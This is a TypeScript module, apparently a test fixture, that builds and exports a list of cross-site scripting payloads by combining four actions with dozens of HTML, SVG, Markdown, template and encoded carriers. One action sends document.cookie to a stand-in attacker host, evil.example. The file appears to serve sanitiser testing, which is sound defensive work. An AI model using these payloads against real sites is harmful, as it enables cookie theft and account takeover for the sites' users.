/** Texts that run in a browser which takes them for HTML, or for more than text in Markdown. */
const actions = [
  'alert(1)',
  'fetch(`//evil.example/${document.cookie}`)',
  'top["al"+"ert"](1)',
  '&#97;lert(1)',
]

const carriers = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<SCRIPT/x>${run}//`,
  (run: string) => `"><script>${run}</script>`,
  (run: string) => `</title></textarea></style><script>${run}</script>`,
  (run: string) => `<img src=x onerror=${run}>`,
  (run: string) => `<img src="x\`<script>${run}</script>"\`>`,
  (run: string) => `<svg onload=${run}>`,
  (run: string) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run: string) => `<svg><script xlink:href="data:,${run}"/></svg>`,
  (run: string) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  (run: string) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run: string) => `<iframe srcdoc="<script>${run}</script>">`,
  (run: string) => `<body onload=${run}>`,
  (run: string) => `<details open ontoggle=${run}>`,
  (run: string) => `<input autofocus onfocus=${run}>`,
  (run: string) => `<a href="javascript:${run}">x</a>`,
  (run: string) => `<a href="java\tscript:${run}">x</a>`,
  (run: string) => `<form action=javascript:${run}><button>`,
  (run: string) => `<object data="data:text/html,<script>${run}</script>">`,
  (run: string) => `<style>@import 'javascript:${run}';</style>`,
  (run: string) => `<template><script>${run}</script></template>`,
  (run: string) => `<!--><script>${run}</script>-->`,
  (run: string) => `<![CDATA[<script>${run}</script>]]>`,
  (run: string) => `[x](javascript:${run})`,
  (run: string) => `[x](data:text/html;base64,PHNjcmlwdD4)<!-- ${run} -->`,
  (run: string) => `![x](x"onerror="${run})`,
  (run: string) => `[x]: javascript:${run}`,
  (run: string) => `<javascript:${run}>`,
  (run: string) => `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  (run: string) => `{{constructor.constructor('${run}')()}}`,
  (run: string) => `\${${run}}`,
  (run: string) => `<%= ${run} %>`,
  (run: string) => `＜script＞${run}＜/script＞`,
  (run: string) => `\u2028${run}\u2029`,
  (run: string) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run: string) => `%3Cscript%3E${run}%3C/script%3E`,
]

export const crossSiteScripts: readonly string[] = carriers.flatMap((carry) => actions.map(carry))
